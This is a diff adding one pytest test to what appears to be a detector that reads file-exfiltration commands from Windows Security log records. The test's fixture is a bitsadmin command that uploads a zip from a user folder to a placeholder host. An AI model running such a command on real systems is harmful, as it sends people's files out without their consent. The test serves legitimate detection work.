@@ -82,6 +82,13 @@ def test_what_was_packed_and_sent_is_read_from_the_command_line(command, folder,
     assert (found.archive, found.archive_path, found.source_path) == (archive, archive_path, source_path)
 
 
+def test_a_windows_record_without_an_image_is_read_as_windows_does():
+    """As the Security log has a task: its action, and no process."""
+    line = r"bitsadmin /transfer x /upload http://files.example/in C:\Users\d\collect.zip"
+    found = facts(make("a", CommandLine=line, Image=None))
+    assert (found.source_path, found.tool) == (r"C:\Users\d\collect.zip", "bitsadmin")
+
+
 @pytest.mark.parametrize(
     ("command", "families", "directions", "tool"),
     [
